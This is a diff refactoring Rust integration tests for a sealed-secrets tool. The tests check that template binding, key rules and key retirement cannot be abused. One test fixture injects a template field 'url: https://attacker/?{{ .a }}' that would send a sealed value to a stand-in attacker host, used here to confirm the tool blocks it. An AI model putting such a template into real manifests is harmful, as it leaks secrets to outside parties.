@@ -16,13 +16,11 @@ use shared::v2::{Object, Recipient as _, SecretKey, Suite};
 
 use crate::api_server::{self, Body, certificate_path, service_body, service_path};
 use crate::support::{assert_code, assert_contains, command, git, stderr, write_files};
-use crate::v2::{RULES, folder, read, seal, seal_well, v2_key};
-
-const CREATE: [&str; 6] = ["create", "db", "-n", "shop", "--from-file", "a=value"];
+use crate::v2::{CREATE, RULES, create, folder, read, seal, seal_well, v2_key, write_two_keys};
 
 /// Sets an item, in a file that it must not change.
 #[track_caller]
-fn assert_refused(folder: &Path, args: &[&str], file: &str, why: &str) -> Output {
+pub(crate) fn assert_refused(folder: &Path, args: &[&str], file: &str, why: &str) -> Output {
     let before = read(folder, file);
     let output = seal(folder, args);
     assert_code(&output, 2, why);
@@ -31,12 +29,12 @@ fn assert_refused(folder: &Path, args: &[&str], file: &str, why: &str) -> Output
     output
 }
 
-fn set(item: &str) -> [&str; 5] {
+pub(crate) fn set(item: &str) -> [&str; 5] {
     ["set", "db.yaml", item, "--from-file", "value"]
 }
 
 /// Returns the line of an item in a file.
-fn line_of(text: &str, item: &str) -> String {
+pub(crate) fn line_of(text: &str, item: &str) -> String {
     let start = format!("    {item}: ");
     let line = text.lines().find(|line| line.starts_with(&start));
     line.expect("an item").to_owned()
@@ -52,7 +50,7 @@ fn with_line(text: &str, line: &str) -> String {
 }
 
 #[track_caller]
-fn is_bound(folder: &Path, item: &str) -> bool {
+pub(crate) fn is_bound(folder: &Path, item: &str) -> bool {
     let documents = manifest::read(read(folder, "db.yaml").as_bytes()).expect("valid");
     let (sealed, _) = SealedSecret::all_from_document(&documents[0]).expect("valid");
     let object = Object::parse(&sealed[0].spec.encrypted_data).expect("valid");
@@ -65,7 +63,7 @@ fn is_bound(folder: &Path, item: &str) -> bool {
 fn a_v1_item_does_not_free_new_values_from_the_template() {
     let folder = folder();
     let folder = folder.path();
-    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    create(folder, &["-w", "db.yaml"]);
     let v1 = [
         "--sealed-format",
         "v1",
@@ -74,10 +72,7 @@ fn a_v1_item_does_not_free_new_values_from_the_template() {
         "-w",
         "v1.yaml",
     ];
-    seal_well(
-        folder,
-        &[&CREATE[..], &["--from-file", "x=value"], &v1].concat(),
-    );
+    create(folder, &[&["--from-file", "x=value"], &v1[..]].concat());
     let line = line_of(&read(folder, "v1.yaml"), "x");
     let text = with_line(&read(folder, "db.yaml"), &line);
     write_files(folder, &[("db.yaml", &text)]);
@@ -93,12 +88,11 @@ fn a_v1_item_does_not_free_new_values_from_the_template() {
 fn unbound_items_do_not_free_new_values_from_the_template() {
     let folder = folder();
     let folder = folder.path();
-    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    create(folder, &["-w", "db.yaml"]);
     let bound = read(folder, "db.yaml");
     let unbound_rule = RULES.to_owned() + "  bindTemplate: false\n";
     write_files(folder, &[(".seal.yaml", &unbound_rule)]);
-    let create = [&CREATE[..], &["--from-file", "b=value", "-w", "own.yaml"]].concat();
-    seal_well(folder, &create);
+    create(folder, &["--from-file", "b=value", "-w", "own.yaml"]);
     let own = read(folder, "own.yaml");
 
     // The last commit has the binding.
@@ -131,7 +125,7 @@ fn unbound_items_do_not_free_new_values_from_the_template() {
 fn new_values_are_not_bound_to_a_changed_template() {
     let folder = folder();
     let folder = folder.path();
-    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    create(folder, &["-w", "db.yaml"]);
     let bound = read(folder, "db.yaml");
     let changed = bound.clone() + "    data:\n      url: 'https://attacker/?{{ .a }}'\n";
     write_files(folder, &[("db.yaml", &changed)]);
@@ -239,7 +233,7 @@ fn rsa_key(folder: &Path) -> String {
 fn a_rule_alone_does_not_allow_classical_keys_for_existing_values() {
     let folder = folder();
     let folder = folder.path();
-    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    create(folder, &["-w", "db.yaml"]);
     let before = read(folder, "db.yaml");
     let classical = RULES.replace("[cluster.txt]", "[cluster.txt, cert.pem]");
     let classical = classical + "  allowClassical: true\n";
@@ -271,14 +265,7 @@ fn a_rule_alone_does_not_allow_classical_keys_for_existing_values() {
 fn a_stanza_that_does_not_open_is_no_other_recipient() {
     let folder = folder();
     let folder = folder.path();
-    write_files(
-        folder,
-        &[
-            ("state/keys/old.yaml", &v2_key("key-old", 1, 1)),
-            ("state/keys/new.yaml", &v2_key("key-new", 2, 2)),
-            ("state/sealed/README", ""),
-        ],
-    );
+    write_two_keys(folder);
     let both = RULES.replace("[cluster.txt]", "[cluster.txt, new.txt]");
     let exported = seal_well(folder, &["keys", "export", "--directory", "state"]);
     let id_new = exported
@@ -288,9 +275,9 @@ fn a_stanza_that_does_not_open_is_no_other_recipient() {
         .to_owned();
     write_files(folder, &[("new.txt", &exported)]);
     let more = ["--from-file", "b=value", "-w"];
-    seal_well(folder, &[&CREATE[..], &more, &["db.yaml"]].concat());
+    create(folder, &[&more[..], &["db.yaml"]].concat());
     write_files(folder, &[(".seal.yaml", &both)]);
-    seal_well(folder, &[&CREATE[..], &more, &["other.yaml"]].concat());
+    create(folder, &[&more[..], &["other.yaml"]].concat());
     let retire = |file| {
         let retire = [
             "keys",
@@ -421,15 +408,8 @@ fn preferred_keys(folder: &Path) -> [String; 3] {
 fn rules_that_name_a_key_keep_it_and_are_reported() {
     let folder = folder();
     let folder = folder.path();
-    write_files(
-        folder,
-        &[
-            ("state/keys/old.yaml", &v2_key("key-old", 1, 1)),
-            ("state/keys/new.yaml", &v2_key("key-new", 2, 2)),
-            ("state/sealed/README", ""),
-            ("tree/README", ""),
-        ],
-    );
+    write_two_keys(folder);
+    write_files(folder, &[("tree/README", "")]);
     let line = read(folder, "cluster.txt");
     let by_line = RULES.replace("[cluster.txt]", &format!("['{}']", line.trim()));
     let retire = |more: &[&str]| {
